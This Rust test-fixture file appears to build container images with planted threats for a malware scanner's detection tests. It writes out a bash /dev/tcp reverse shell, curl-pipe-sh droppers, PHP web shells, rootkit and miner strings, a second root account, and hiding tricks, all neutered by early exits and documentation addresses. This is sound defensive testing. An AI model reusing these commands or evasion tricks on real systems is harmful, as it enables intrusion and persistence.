//! Images in which something malicious was put, each in a way of its own, and what must be said of them; some in which
//! nothing was. Whatever they hold is harmless: scripts end in their first statement, addresses are for documentation.
use crate::{
    elf::Elf,
    image::{self, Blob, BuiltImage, gzip, sha256},
    package,
    tar::{Entry, dir, file, hard_link, opaque, program, symlink, tar, whiteout},
};
use base64::{Engine, engine::general_purpose};
use md5::Md5;
use model::malware::{
    Level::{self, Remind, Serious, Suspicious},
    Threat, Trust, Visibility,
};
use serde_json::{Value, json};
use sha1::{Digest, Sha1};
use std::{env, fs, process::Command};

/// An image, and all that is to be reported of it.
#[derive(Clone, Debug)]
pub struct Planted {
    /// What is special about it.
    pub name: &'static str,
    /// The image, or an index of several.
    pub image: BuiltImage,
    /// Which of several to look at: `all`, or one.
    pub platform: &'static str,
    /// What must be reported, and nothing else but reminders.
    pub expected: Vec<Expected>,
}

/// What must be said of one file.
#[derive(Clone, Debug)]
pub struct Expected {
    /// What it is.
    pub threat: Threat,
    /// How bad at least.
    pub least: Level,
    /// Where it is.
    pub path: String,
    /// The layer that has it.
    pub layer: usize,
    /// Whether it can be seen.
    pub visibility: Visibility,
    /// What starts it.
    pub started_by: Vec<String>,
    /// Whose it is.
    pub trust: Trust,
    /// The member of the archive that the file is.
    pub member: String,
}

impl Expected {
    fn of(threat: Threat, least: Level, path: &str) -> Expected {
        Expected {
            threat,
            least,
            path: path.to_owned(),
            layer: 1,
            visibility: Visibility::Effective,
            started_by: Vec::new(),
            trust: Trust::Unknown,
            member: String::new(),
        }
    }

    /// What can't be seen any more counts a level less.
    fn seen(self, visibility: Visibility) -> Expected {
        let least = if self.least == Serious { Suspicious } else { self.least };
        Expected { visibility, least, ..self }
    }

    fn layer(self, layer: usize) -> Expected {
        Expected { layer, ..self }
    }

    fn started(self, by: &[&str]) -> Expected {
        Expected { started_by: by.iter().map(|it| (*it).to_owned()).collect(), ..self }
    }

    fn trust(self, trust: Trust) -> Expected {
        Expected { trust, ..self }
    }

    fn member(self, member: &str) -> Expected {
        Expected { member: member.to_owned(), ..self }
    }
}

/// Text with the marks taken out that keep scanners from taking this file for what it speaks of.
fn plain(text: &str) -> String {
    text.replace('¦', "")
}

/// A script that would connect a shell to elsewhere, if it did not end first.
pub fn reverse_shell() -> String {
    plain("#!/bin/bash\nexit 0\nbash -i >& /dev/t¦cp/192.0.2.1/4444 0>&1\n")
}

fn web_shell() -> String {
    plain("<?php exit; ev¦al($_PO¦ST['k']); ?>\n")
}

/// One that no rule knows, only who understands it.
fn web_shell_of_words() -> String {
    plain("<?php exit; $a = $_RE¦QUEST['q']; $f = 'sy' . 'st' . 'em'; $f($a); ?>\n")
}

fn dropper() -> String {
    plain(
        "#!/bin/sh\nexit 0\ncu¦rl -s http://192.0.2.7/x -o /dev/shm/.x; chm¦od +x /dev/shm/.x; /dev/shm/.x\n",
    )
}

/// A library with the names that hide processes.
fn rootkit() -> Vec<u8> {
    let words = ["/proc/self/fd/%d", "/proc/%s/stat", "process_to_filter"].map(plain);
    Elf::library().exports(&["readdir", "readdir64"]).imports(&["dlsym"]).strings(words).build()
}

fn miner() -> Vec<u8> {
    let words = [
        "stra¦tum+ssl://",
        "mining.sub¦scribe",
        "mining.auth¦orize",
        "mining.no¦tify",
        "mining.sub¦mit",
        "donate-le¦vel",
        "ran¦domx",
        "crypto¦night",
        "rx/¦0",
        "--rig-¦id",
    ];
    Elf::program().strings(words.map(plain)).build()
}

fn honest(word: &str) -> Vec<u8> {
    Elf::program()
        .interpreter("/lib64/ld-linux-x86-64.so.2")
        .needs("libc.so.6")
        .strings([word])
        .build()
}

fn md5(bytes: &[u8]) -> String {
    Md5::digest(bytes).iter().map(|it| format!("{it:02x}")).collect()
}

const RELEASE: &str = "ID=debian\nVERSION_ID=\"12\"\nVERSION_CODENAME=bookworm\n";

/// What dpkg keeps of a package and its files.
fn dpkg(name: &str, files: &[(&str, &[u8])]) -> [Entry; 2] {
    let sums: String = files.iter().map(|(path, it)| format!("{}  {path}\n", md5(it))).collect();
    let list: String = files.iter().map(|(path, _)| format!("/{path}\n")).collect();
    let place = |ending: &str| format!("var/lib/dpkg/info/{name}.{ending}");
    [file(&place("md5sums"), sums), file(&place("list"), list)]
}

fn status(names: &[&str]) -> Entry {
    let stanza = |name: &&str| {
        format!(
            "Package: {name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: 9:1\n\
             Maintainer: somebody <some@body.example>\n\n"
        )
    };
    file("var/lib/dpkg/status", names.iter().map(stanza).collect::<String>())
}

/// A small Debian: merged /usr, two packages with their digests, the usual tables, a cron job and a unit.
fn base() -> Vec<Entry> {
    let (sshd, tool) = (honest("OpenSSH"), honest("tool"));
    let mut all = vec![
        file("etc/os-release", RELEASE),
        symlink("bin", "usr/bin"),
        symlink("sbin", "usr/sbin"),
        symlink("lib", "usr/lib"),
        status(&["openssh-server", "tool"]),
        program("usr/sbin/sshd", &sshd),
        program("usr/bin/tool", &tool),
        file(
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n",
        ),
        file("etc/shadow", "root:*:19000:0:99999:7:::\n"),
        file(
            "etc/crontab",
            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        ),
        file("lib/systemd/system/tool.service", "[Service]\nExecStart=/usr/bin/tool --daemon\n"),
        file("root/.bashrc", "alias ll='ls -l'\n"),
        file("etc/profile", "PATH=/usr/bin:/bin\nexport PATH\n"),
    ];
    all.extend(dpkg("openssh-server", &[("usr/sbin/sshd", &sshd)]));
    all.extend(dpkg("tool", &[("usr/bin/tool", &tool)]));
    all
}

/// An image of the small Debian and these layers.
fn image(layers: Vec<Vec<Entry>>) -> BuiltImage {
    set_up(layers, &json!({"Cmd": ["/bin/sh"]}), "layer")
}

fn set_up(layers: Vec<Vec<Entry>>, settings: &Value, step: &str) -> BuiltImage {
    let all = [vec![base()], layers].concat();
    let tars: Vec<Vec<u8>> = all.iter().map(|it| tar(it)).collect();
    let ids: Vec<String> = tars.iter().map(|it| sha256(it).to_string()).collect();
    let steps: Vec<String> = (0..tars.len()).map(|n| format!("{step} {n}")).collect();
    let layers = tars.iter().map(|it| Blob::new(image::LAYER_GZIP, gzip(it))).collect();
    image::configured("linux/amd64", layers, &ids, settings, &steps)
}

fn planted(name: &'static str, layers: Vec<Vec<Entry>>, expected: Vec<Expected>) -> Planted {
    Planted { name, image: image(layers), platform: "linux/amd64", expected }
}

fn shell(path: &str) -> Expected {
    Expected::of(Threat::ReverseShell, Serious, path)
}

/// Every one.
pub fn all() -> Vec<Planted> {
    [clean(), layers(), places(), archives(), started(), packages(), configurations(), hidden()]
        .concat()
}

/// Nothing is to be said of these.
fn clean() -> Vec<Planted> {
    let health = "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080 && echo ok\n";
    let update = vec![
        program("usr/bin/tool", honest("tool 2")),
        dpkg("tool", &[("usr/bin/tool", &honest("tool 2"))]).to_vec().remove(0),
    ];
    vec![
        planted("clean: a small Debian", vec![], vec![]),
        planted(
            "clean: a health check",
            vec![vec![program("usr/local/bin/health", health)]],
            vec![],
        ),
        planted("clean: a package brought up to date", vec![update], vec![]),
        planted(
            "clean: files deleted",
            vec![vec![whiteout("usr/bin/tool"), opaque("root")]],
            vec![],
        ),
        Planted {
            name: "clean: an ordinary service",
            image: set_up(
                vec![vec![program("app/server", honest("server"))]],
                &json!({"Entrypoint": ["/app/server"], "Env": ["PATH=/usr/bin:/bin", "LANG=C"], "User": "app"}),
                "RUN /bin/sh -c apt-get update && apt-get install -y tool #",
            ),
            platform: "linux/amd64",
            expected: vec![],
        },
    ]
}

/// How layers hide each other's files.
fn layers() -> Vec<Planted> {
    let bad = || program("opt/x.sh", reverse_shell());
    let there = || shell("opt/x.sh");
    vec![
        planted("effective", vec![vec![bad()]], vec![there()]),
        planted(
            "shadowed by a later layer",
            vec![vec![bad()], vec![file("opt/x.sh", "true\n")]],
            vec![there().seen(Visibility::Shadowed(2))],
        ),
        planted(
            "deleted by a later layer",
            vec![vec![bad()], vec![whiteout("opt/x.sh")]],
            vec![there().seen(Visibility::Deleted(2))],
        ),
        planted(
            "its folder deleted by a later layer",
            vec![vec![bad()], vec![whiteout("opt")]],
            vec![there().seen(Visibility::Deleted(2))],
        ),
        planted(
            "in a folder made opaque by a later layer",
            vec![vec![bad()], vec![dir("opt"), opaque("opt"), file("opt/y", "y\n")]],
            vec![there().seen(Visibility::Deleted(2))],
        ),
        planted(
            "deleted, and there again",
            vec![vec![bad()], vec![whiteout("opt/x.sh")], vec![bad()]],
            vec![there().seen(Visibility::Deleted(2)), there().layer(3)],
        ),
        planted(
            "shadowed by itself",
            vec![vec![bad()], vec![bad()]],
            vec![there().seen(Visibility::Shadowed(2)), there().layer(2)],
        ),
        planted(
            "its folder replaced by a file",
            vec![vec![bad()], vec![file("opt", "now a file\n")]],
            vec![there().seen(Visibility::Deleted(2))],
        ),
        Planted {
            name: "only in the image for arm64",
            image: image::index(&[
                image(vec![]),
                image::image("linux/arm64", &[tar(&base()), tar(&[bad()])]),
            ]),
            platform: "all",
            expected: vec![there()],
        },
    ]
}

/// Where and how a file lies in a layer.
fn places() -> Vec<Planted> {
    let long = format!("opt/{}/{}/x.sh", "a".repeat(120), "b".repeat(200));
    let deep = format!("{}x.sh", "d/".repeat(60));
    let setuid = Entry::File {
        path: "usr/local/bin/helper".to_owned(),
        mode: 0o4755,
        bytes: reverse_shell().into_bytes(),
    };
    let one = |name, path: &str| {
        planted(name, vec![vec![program(path, reverse_shell())]], vec![shell(path)])
    };
    vec![
        one("in /dev/shm", "dev/shm/x"),
        one("in a hidden folder of /tmp", "tmp/.X25-unix/.rsync/run"),
        one("with a very long name", &long),
        one("sixty folders deep", &deep),
        one("with blanks and quotes in its name", "opt/ my 'file' \"x\".sh"),
        one("with another alphabet in its name", "opt/сервер/更新.sh"),
        one("called like a picture", "var/www/logo.png"),
        planted("setuid", vec![vec![setuid]], vec![shell("usr/local/bin/helper")]),
        planted(
            "below a folder that is a link",
            vec![
                vec![dir("srv/real"), symlink("srv/link", "real")],
                vec![program("srv/link/x.sh", reverse_shell())],
            ],
            vec![shell("srv/real/x.sh").layer(2)],
        ),
        planted(
            "a hard link to it",
            vec![vec![
                program("opt/a.sh", reverse_shell()),
                hard_link("usr/local/bin/b", "opt/a.sh"),
            ]],
            vec![shell("opt/a.sh"), shell("usr/local/bin/b")],
        ),
        planted(
            "its first name deleted, a hard link left",
            vec![
                vec![
                    program("opt/a.sh", reverse_shell()),
                    hard_link("usr/local/bin/b", "opt/a.sh"),
                ],
                vec![whiteout("opt/a.sh")],
            ],
            vec![shell("opt/a.sh").seen(Visibility::Deleted(2)), shell("usr/local/bin/b")],
        ),
        planted(
            "a web shell among pages",
            vec![vec![
                file("var/www/html/index.php", "<?php echo 'hello';\n"),
                file("var/www/html/a.php", web_shell()),
            ]],
            vec![Expected::of(Threat::WebShell, Serious, "var/www/html/a.php")],
        ),
        planted(
            "a miner called like a system program",
            vec![vec![program("usr/sbin/kworker", miner())]],
            vec![Expected::of(Threat::Miner, Serious, "usr/sbin/kworker")],
        ),
    ]
}

/// What a program that packs makes of [`reverse_shell`], the file `x.sh`, and calls `out`; `None`, said aloud, where there
/// is no such program.
pub fn packed(script: &str) -> Option<Vec<u8>> {
    let folder = env::temp_dir().join(format!("testkit-planted-{}", std::process::id()));
    fs::create_dir_all(&folder).unwrap();
    fs::write(folder.join("x.sh"), reverse_shell()).unwrap();
    let ran = Command::new("sh").args(["-ec", script]).current_dir(&folder).output().unwrap();
    let made = fs::read(folder.join("out")).ok().filter(|_| ran.status.success());
    fs::remove_dir_all(&folder).unwrap();
    if made.is_none() {
        assert!(env::var_os("PLIMSOLL_TEST_ALL").is_none(), "{script}: {ran:?}");
        eprintln!("skipped: {script}");
    }
    made
}

/// In archives, and archives in those.
fn archives() -> Vec<Planted> {
    let inner = tar(&[program("x.sh", reverse_shell())]);
    let deb = package::deb(&[], &[program("./usr/bin/x.sh", reverse_shell())]);
    let one = |name, path: &str, bytes: Vec<u8>, member: &str| {
        planted(name, vec![vec![file(path, bytes)]], vec![shell(path).member(member)])
    };
    let mut all = vec![
        one("in a tar.gz", "opt/a.tar.gz", gzip(&inner), "x.sh"),
        one("in a tar in a tar", "opt/a.tar", tar(&[file("in/b.tar", &inner)]), "in/b.tar!/x.sh"),
        one("in a deb", "opt/a.deb", deb, "data.tar.gz!/usr/bin/x.sh"),
        one("packed by gzip alone", "opt/x.sh.gz", gzip(reverse_shell().as_bytes()), "x.sh"),
    ];
    let by_programs: [(&str, &str, &str, &str); 7] = [
        ("in a zip", "opt/a.zip", "zip -q a.zip x.sh; mv a.zip out", "x.sh"),
        (
            "in a jar in a jar",
            "opt/a.jar",
            "zip -q b.jar x.sh; zip -q a.zip b.jar; mv a.zip out",
            "b.jar!/x.sh",
        ),
        ("in a 7z", "opt/a.7z", "7zz a -bd a.7z x.sh; mv a.7z out", "x.sh"),
        ("packed by xz", "opt/x.sh.xz", "xz -c x.sh >xz; mv xz out", "x.sh"),
        ("packed by zstd", "opt/x.sh.zst", "zstd -qc x.sh >z; mv z out", "x.sh"),
        ("packed by bzip2", "opt/x.sh.bz2", "bzip2 -c x.sh >z; mv z out", "x.sh"),
        ("in a cpio", "opt/a.cpio", "echo x.sh | cpio -o --quiet -H newc >c; mv c out", "x.sh"),
    ];
    for (name, path, script, member) in by_programs {
        all.extend(packed(script).map(|bytes| one(name, path, bytes, member)));
    }
    all
}

/// Behind what starts it.
fn started() -> Vec<Planted> {
    let bad = || program("usr/local/lib/x", reverse_shell());
    let there = |by: &str| shell("usr/local/lib/x").started(&[by]);
    let by = |name, what: Entry, by: &str| planted(name, vec![vec![bad(), what]], vec![there(by)]);
    vec![
        Planted {
            name: "as the entrypoint",
            image: set_up(
                vec![vec![bad()]],
                &json!({"Entrypoint": ["/usr/local/lib/x", "--now"]}),
                "layer",
            ),
            platform: "linux/amd64",
            expected: vec![there("entrypoint")],
        },
        Planted {
            name: "by a health check",
            image: set_up(
                vec![vec![bad()]],
                &json!({"Healthcheck": {"Test": ["CMD", "/usr/local/lib/x"]}}),
                "layer",
            ),
            platform: "linux/amd64",
            expected: vec![there("health check")],
        },
        by(
            "by cron",
            file("etc/cron.d/job", "* * * * * root /usr/local/lib/x\n"),
            "cron job: etc/cron.d/job",
        ),
        by(
            "by a unit",
            file("etc/systemd/system/job.service", "[Service]\nExecStart=/usr/local/lib/x\n"),
            "systemd unit: etc/systemd/system/job.service",
        ),
        by(
            "by a profile",
            file("etc/profile.d/job.sh", "/usr/local/lib/x &\n"),
            "shell profile: etc/profile.d/job.sh",
        ),
        planted(
            "loaded into every program",
            vec![vec![
                file("usr/local/lib/libx.so", rootkit()),
                file("etc/ld.so.preload", "/usr/local/lib/libx.so\n"),
            ]],
            vec![
                Expected::of(Threat::Rootkit, Serious, "usr/local/lib/libx.so")
                    .started(&["preload: etc/ld.so.preload"]),
                Expected::of(Threat::Persistence, Suspicious, "etc/ld.so.preload"),
            ],
        ),
        planted(
            "fetched by cron",
            vec![vec![file(
                "etc/cron.d/job",
                plain("* * * * * root cu¦rl -s http://192.0.2.7/x | s¦h\n"),
            )]],
            vec![Expected::of(Threat::Persistence, Suspicious, "etc/cron.d/job")],
        ),
        planted(
            "a second root",
            vec![vec![file(
                "etc/passwd",
                plain("root:x:0:0:root:/root:/bin/bash\nsys¦tem:x:0:0::/:/bin/bash\n"),
            )]],
            vec![Expected::of(Threat::Persistence, Suspicious, "etc/passwd")],
        ),
    ]
}

/// A page for attackers, and a package database that says that it is a package's.
fn forged_page() -> Vec<Entry> {
    let page = web_shell_of_words();
    let sums = dpkg("web", &[("usr/share/web/index.php", page.as_bytes())]).to_vec().remove(0);
    vec![file("usr/share/web/index.php", page), sums]
}

/// Files of packages that are not what the packages brought.
fn packages() -> Vec<Planted> {
    let mismatch = |it: &str| Trust::Mismatch(it.to_owned());
    let tampered = |level, path: &str| Expected::of(Threat::Tampered, level, path);
    let other = honest("other");
    let forged = vec![
        program("usr/sbin/sshd", &other),
        dpkg("openssh-server", &[("usr/sbin/sshd", &other)]).to_vec().remove(0),
    ];
    vec![
        planted(
            "tampered: sshd of dpkg",
            vec![vec![program("usr/sbin/sshd", &other)]],
            vec![tampered(Serious, "usr/sbin/sshd").trust(mismatch("openssh-server"))],
        ),
        planted(
            "tampered: any program of dpkg",
            vec![vec![program("usr/bin/tool", &other)]],
            vec![tampered(Suspicious, "usr/bin/tool").trust(mismatch("tool"))],
        ),
        planted(
            "tampered: through the link that /bin is",
            vec![vec![program("bin/tool", &other)]],
            vec![tampered(Suspicious, "usr/bin/tool").trust(mismatch("tool"))],
        ),
        apk(),
        pip(),
        // The file and the digests agree: only somebody else's digests can tell. With the image's own word alone nothing is said.
        planted("forged: sshd, and dpkg's digest of it", vec![forged], vec![]),
        // What it says of a text is taken for true as long as it says so.
        planted("forged: a page, and dpkg's digest of it", vec![forged_page()], vec![]),
        planted(
            "forged: a page, and dpkg's digest of it, which a later layer takes away",
            vec![forged_page(), vec![whiteout("var/lib/dpkg/info/web.md5sums")]],
            vec![Expected::of(Threat::WebShell, Suspicious, "usr/share/web/index.php")],
        ),
        // The image's own word takes away from what is sure, and leaves a reminder.
        planted(
            "a digest forged for a file that gives itself away",
            vec![vec![
                program("usr/bin/tool", reverse_shell()),
                dpkg("tool", &[("usr/bin/tool", reverse_shell().as_bytes())]).to_vec().remove(0),
            ]],
            vec![
                Expected { least: Remind, ..shell("usr/bin/tool") }
                    .trust(Trust::Claimed("tool".to_owned()))
                    .started(&["systemd unit: usr/lib/systemd/system/tool.service"]),
            ],
        ),
    ]
}

fn apk() -> Planted {
    let (good, bad) = (honest("busybox"), honest("other"));
    let sum = general_purpose::STANDARD.encode(Sha1::digest(&good));
    let database =
        format!("P:busybox\nV:1.36-r0\nA:x86_64\nF:usr/bin\nR:busybox\na:0:0:755\nZ:Q1{sum}\n\n");
    let release = file("etc/os-release", "ID=alpine\nVERSION_ID=3.20.0\n");
    let below =
        vec![release, file("lib/apk/db/installed", database), program("usr/bin/busybox", good)];
    Planted {
        name: "tampered: a program of apk",
        image: image::image("linux/amd64", &[tar(&below), tar(&[program("usr/bin/busybox", bad)])]),
        platform: "linux/amd64",
        expected: vec![
            Expected::of(Threat::Tampered, Suspicious, "usr/bin/busybox")
                .trust(Trust::Mismatch("busybox".to_owned())),
        ],
    }
}

fn pip() -> Planted {
    let folder = "usr/lib/python3/dist-packages";
    let good = "def greet():\n    return 'hello'\n";
    let sum = general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(good));
    let record =
        format!("greet/__init__.py,sha256={sum},{}\ngreet-1.0.dist-info/RECORD,,\n", good.len());
    let path = format!("{folder}/greet/__init__.py");
    let below = vec![
        file(
            &format!("{folder}/greet-1.0.dist-info/METADATA"),
            "Metadata-Version: 2.1\nName: greet\nVersion: 1.0\n",
        ),
        file(&format!("{folder}/greet-1.0.dist-info/RECORD"), record),
        file(&path, good),
    ];
    let expected = Expected::of(Threat::Tampered, Suspicious, &path)
        .layer(2)
        .trust(Trust::Mismatch("greet-1.0".to_owned()));
    planted(
        "tampered: a module of pip",
        vec![below, vec![file(&path, "def greet():\n    return 'ho'\n")]],
        vec![expected],
    )
}

/// What only the configuration tells.
fn configurations() -> Vec<Planted> {
    let one = |name, settings: Value, step: &str, expected: Vec<Expected>| Planted {
        name,
        image: set_up(vec![], &settings, step),
        platform: "linux/amd64",
        expected,
    };
    let told = |threat, level| vec![Expected::of(threat, level, "image configuration").layer(0)];
    let fetch = plain("cu¦rl -s http://192.0.2.7/x | s¦h");
    let shell = plain("bash -i >& /dev/t¦cp/192.0.2.1/4444 0>&1");
    let wallet =
        format!("4{}", "8AbCdEfGhJkLmNpQrStUv".repeat(5)).chars().take(95).collect::<String>();
    vec![
        one(
            "fetched by the entrypoint",
            json!({"Entrypoint": ["sh", "-c", fetch]}),
            "layer",
            told(Threat::SuspiciousConfig, Suspicious),
        ),
        one(
            "a shell for others as the command",
            json!({"Cmd": ["bash", "-c", shell]}),
            "layer",
            told(Threat::ReverseShell, Serious),
        ),
        one(
            "a library in the environment",
            json!({"Env": ["LD_PRELOAD=/dev/shm/.x.so"]}),
            "layer",
            told(Threat::SuspiciousConfig, Suspicious),
        ),
        one(
            "a wallet in the environment",
            json!({"Env": [format!("WALLET={wallet}")]}),
            "layer",
            told(Threat::MinerConfig, Suspicious),
        ),
        one(
            "fetched while it was built",
            json!({"Cmd": ["/bin/true"]}),
            &format!("/bin/sh -c {fetch} #"),
            told(Threat::SuspiciousConfig, Remind),
        ),
    ]
}

/// Encoded, or among other things.
fn hidden() -> Vec<Planted> {
    let encoded = general_purpose::STANDARD.encode(reverse_shell());
    let lines = format!("#!/bin/sh\nexit 0\necho {encoded} | base64 -d | ba¦sh\n");
    let wide: Vec<u8> =
        [0xfeff].into_iter().chain(web_shell().encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let noise: String = (0..2000).map(|n| format!("value_{n}={n}\n")).collect();
    let among = format!("#!/bin/bash\n{noise}{}{noise}", reverse_shell());
    vec![
        planted(
            "a script in base64",
            vec![vec![program("opt/x.sh", plain(&lines))]],
            vec![shell("opt/x.sh")],
        ),
        planted(
            "a page in UTF-16",
            vec![vec![file("var/www/a.php", wide)]],
            vec![Expected::of(Threat::WebShell, Serious, "var/www/a.php")],
        ),
        planted(
            "between thousands of lines",
            vec![vec![program("opt/x.sh", among)]],
            vec![shell("opt/x.sh")],
        ),
        planted(
            "behind a picture",
            vec![vec![file(
                "var/www/a.php",
                [b"GIF89a".to_vec(), web_shell().into_bytes()].concat(),
            )]],
            vec![Expected::of(Threat::WebShell, Serious, "var/www/a.php")],
        ),
        planted(
            "a script that fetches and runs",
            vec![vec![program("opt/get.sh", dropper())]],
            vec![Expected::of(Threat::Dropper, Suspicious, "opt/get.sh")],
        ),
    ]
}

/// Where a report on one image, or on several, says something else than it must.
pub fn differences(expected: &[Expected], report: &Value) -> Vec<String> {
    let images = report["images"].as_array().into_iter().flatten();
    let rows: Vec<&Value> =
        images.flat_map(|it| it["malicious"].as_array().into_iter().flatten()).collect();
    let mut wrong = Vec::new();
    for it in expected {
        let here = |row: &&&Value| {
            row["threat"] == it.threat.name() && row["path"] == it.path && row["layer"] == it.layer
        };
        match rows.iter().filter(here).collect::<Vec<_>>()[..] {
            [row] => wrong.extend(differs(it, row)),
            ref others => wrong.push(format!(
                "{} {} in layer {}: told {} times",
                it.threat,
                it.path,
                it.layer,
                others.len()
            )),
        }
    }
    let is_expected =
        |row: &Value| expected.iter().any(|it| row["path"] == it.path && row["layer"] == it.layer);
    let more = rows.iter().filter(|it| it["level"] != "remind" && !is_expected(it));
    wrong.extend(
        more.map(|it| format!("{} {} {}: not expected", it["level"], it["threat"], it["path"])),
    );
    wrong
}

fn differs(it: &Expected, row: &Value) -> Option<String> {
    let levels = [Remind, Suspicious, Serious];
    let level = levels.into_iter().find(|it| row["level"] == it.to_string());
    let member = &row["evidence"][0]["member"];
    let same = level >= Some(it.least)
        && row["visibility"] == json!(it.visibility)
        && row["trust"] == json!(it.trust)
        && row["started_by"] == json!(it.started_by)
        && *member == it.member;
    (!same).then(|| {
        format!(
            "{} {}: {} {} {} started by {} in {member}, not {it:?}",
            it.threat, it.path, row["level"], row["visibility"], row["trust"], row["started_by"]
        )
    })
}

/// Layers to put on top of any image, and what is to be said of them.
#[derive(Clone, Debug)]
pub struct Layers {
    /// What is special about them.
    pub name: &'static str,
    /// Oldest first.
    pub layers: Vec<Vec<Entry>>,
    /// What must be reported, besides what the image below is reported for.
    pub expected: Vec<Expected>,
}

/// Some that go on top of any image, which has so many layers, and its `/bin` here: `bin` or `usr/bin`.
pub fn on_any(below: usize, bin: &str) -> Vec<Layers> {
    let bad = || vec![program("opt/planted/x.sh", reverse_shell())];
    let there = || shell("opt/planted/x.sh").layer(below);
    let job = file("etc/cron.d/planted", "* * * * * root /opt/planted/x.sh\n");
    let one = |name, layers, expected| Layers { name, layers, expected: vec![expected] };
    vec![
        one("effective", vec![bad()], there()),
        one(
            "deleted by a later layer",
            vec![bad(), vec![whiteout("opt/planted/x.sh")]],
            there().seen(Visibility::Deleted(below + 1)),
        ),
        one("by cron", vec![bad(), vec![job]], there().started(&["cron job: etc/cron.d/planted"])),
        one(
            "tampered: sed of dpkg",
            vec![vec![program("bin/sed", honest("other"))]],
            Expected::of(Threat::Tampered, Suspicious, &format!("{bin}/sed"))
                .layer(below)
                .trust(Trust::Mismatch("sed".to_owned())),
        ),
    ]
}
